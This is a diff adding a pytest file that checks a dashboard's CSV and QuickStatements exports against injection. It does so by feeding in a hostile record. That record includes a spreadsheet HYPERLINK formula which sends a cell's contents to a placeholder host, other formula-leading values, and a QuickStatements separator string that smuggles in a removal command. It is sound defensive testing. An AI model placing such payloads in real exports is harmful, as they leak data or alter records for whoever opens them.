@@ -1,0 +1,163 @@
+"""Nothing in the record can act on its reader (issue 22, the outputs): a record whose names,
+roles, notes, quotes and URLs are written to attack each output — spreadsheet formulas in CSV,
+separators and escapes in QuickStatements — and every output of it read back by a parser of
+its format (csv and pandas; the three QuickStatements readers' rules, see test_interchange;
+json; the followthemoney model; the Popolo schema)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from dashboard.cli import main
+from helpers import REPO, TODAY, load
+
+FORMULA = '=HYPERLINK("http://host/?"&A1,"x")'
+REMOVAL = "||-Q42|P31|Q5||"
+URL = 'https://example.org/a|b"c\\d/*x*/?q=___QSTS3_PLACEHOLDER___'
+
+# Only printable characters: valid whether or not the record admits control characters (the
+# tests that need tabs and line breaks in a name set them after validation).
+RECORD = r"""sources:
+  web:
+    url: 'https://example.org/a|b"c\d/*x*/?q=___QSTS3_PLACEHOLDER___'
+    language: en
+organizations:
+  formula: {name: '=HYPERLINK("http://host/?"&A1,"x")', wikidata: Q1001}
+  plus: {name: '+1+2', wikidata: Q1002}
+  minus: {name: '-2+3', wikidata: Q1003}
+  at: {name: '@SUM(1+1)', wikidata: Q1004}
+people:
+  ada: {name: 'Ada Example \'}
+  bo: {name: 'Bo ||-Q42|P31|Q5|| "Pipe" \'}
+moves:
+  - id: ada-move
+    person: ada
+    from: formula
+    to: plus
+    date: "2024-05"
+    date_kind: effective
+    role: '-5'
+    note: '=1+1'
+    evidence:
+      - source: web
+        quote: 'Ada Example \ moved. ||-Q42|P31|Q5|| "x" \'
+  - id: bo-move
+    person: bo
+    from: minus
+    to: at
+    date: "2024-06"
+    date_kind: effective
+    evidence:
+      - source: web
+        quote: 'a /* hidden */ b ___QSTS3_PLACEHOLDER___ c ||-Q42|P31|Q5|| \'
+"""
+NAMES = {"formula": FORMULA, "plus": "+1+2", "minus": "-2+3", "at": "@SUM(1+1)"}
+
+
+@pytest.fixture
+def hostile(tmp_path) -> Path:
+    path = tmp_path / "data" / "events.yaml"
+    path.parent.mkdir()
+    path.write_text(RECORD, encoding="utf-8")
+    return path
+
+
+@pytest.fixture
+def dataset():
+    result = load(RECORD)
+    assert result.ok, result.errors
+    return result.dataset
+
+
+def export(path: Path, *args: str, tmp_path: Path) -> str:
+    """``export --data path ARGS`` written to a file (the bytes a reader gets)."""
+    out = tmp_path / "out"
+    code = main(["export", "--data", str(path), "--today", TODAY.isoformat(), *args, "--output", str(out)])
+    assert code == 0
+    return out.read_bytes().decode("utf-8")
+
+
+# --- CSV: no cell opens as a formula ------------------------------------------------------------
+
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def assert_no_formula(text: str) -> list[list[str]]:
+    """Every cell of the CSV ``text``: none starts a formula, except a number written as one."""
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(DANGEROUS) or re.fullmatch(r"-\d+(\.\d+)?", cell), (cell, row)
+    return rows
+
+
+def test_the_csv_export_neutralises_every_formula_and_keeps_numbers(hostile, tmp_path):
+    text = export(hostile, "--format", "csv", tmp_path=tmp_path)
+    assert_no_formula(text)
+    frame = pd.read_csv(io.StringIO(text), dtype={"role": str})
+    ada = frame.set_index("id").loc["ada-move"]
+    assert ada["from_org"] == "'" + FORMULA and ada["to_org"] == "'+1+2"
+    assert ada["role"] == "'-5" and ada["note"] == "'=1+1"  # text that looks like a number is text
+    bo = frame.set_index("id").loc["bo-move"]
+    assert bo["from_org"] == "'-2+3" and bo["to_org"] == "'@SUM(1+1)"
+    assert frame["headcount"].dtype.kind == "i" and list(frame["headcount"]) == [1, 1]
+
+
+@pytest.mark.parametrize("view", ["moves", "flows", "net-flow"])
+def test_every_view_csv_neutralises_every_formula_and_keeps_numbers(view, hostile, tmp_path):
+    text = export(hostile, "--view", view, "--format", "csv", tmp_path=tmp_path)
+    rows = assert_no_formula(text)
+    cells = {cell for row in rows for cell in row}
+    assert "'" + FORMULA in cells and "'-2+3" in cells and "'@SUM(1+1)" in cells
+    if view == "net-flow":  # each origin lost one: -1 stays the number -1
+        frame = pd.read_csv(io.StringIO(text))
+        assert frame["net"].dtype.kind == "i" and sorted(frame["net"]) == [-1, -1, 1, 1]
+
+
+def test_the_pages_download_buttons_write_through_the_same_writer():
+    from dashboard.ui.widgets import _csv
+
+    frame = pd.DataFrame(
+        {"name": [FORMULA, "+1+2", "-2+3", "@SUM(1+1)", "\tx", "\rx", "-5", "plain"],
+         "count": [1, -2, 3, -4, 5, 6, 7, 8], "share": [0.5, -0.25, 1.0, 0.0, 2.5, -1.5, 3.0, 4.0]}
+    )  # fmt: skip
+    text = _csv(lambda: frame)().decode("utf-8")
+    assert_no_formula(text)
+    back = pd.read_csv(io.StringIO(text))
+    assert list(back["name"]) == ["'" + FORMULA, "'+1+2", "'-2+3", "'@SUM(1+1)", "'\tx", "'\rx", "'-5", "plain"]
+    assert back["count"].dtype.kind == "i" and list(back["count"]) == [1, -2, 3, -4, 5, 6, 7, 8]
+    assert back["share"].dtype.kind == "f" and back["share"].iloc[1] == -0.25
+
+
+def test_a_carriage_return_in_a_cell_cannot_start_a_row():
+    from dashboard.analysis.export import csv_text
+
+    frame = pd.DataFrame({"quote": ["x\r=1+1", "y\n@SUM(1)", "z\r\n-2+3"], "n": [1, 2, 3]})
+    rows = assert_no_formula(csv_text(frame))
+    assert rows == [["quote", "n"], ["x\r=1+1", "1"], ["y\n@SUM(1)", "2"], ["z\r\n-2+3", "3"]]
+
+
+def test_csv_text_judges_each_cell_not_its_column():
+    from dashboard.analysis.export import csv_text
+
+    frame = pd.DataFrame({"mixed": [-3, "-3", None, "=x"], "=head": [1, 2, 3, 4]}, dtype=object)
+    rows = list(csv.reader(io.StringIO(csv_text(frame))))
+    assert rows == [["mixed", "'=head"], ["-3", "1"], ["'-3", "2"], ["", "3"], ["'=x", "4"]]
+
+
+def test_every_csv_writer_of_the_project_is_csv_text():
+    """One writer for every CSV (the export, the views, the download buttons): no other
+    ``to_csv``, ``csv.writer`` or ``DictWriter`` anywhere in the package."""
+    for path in (REPO / "dashboard").rglob("*.py"):
+        text = path.read_text(encoding="utf-8")
+        for found in re.finditer(r"\.to_csv\(|csv\.writer\(|DictWriter\(", text):
+            where = path.relative_to(REPO).as_posix()
+            assert where == "dashboard/analysis/export.py", (where, found.group())
+            body = text[text.index("def csv_text") : text.index("def rows_to_csv")]
+            assert found.start() > text.index("def csv_text") and found.group() in body
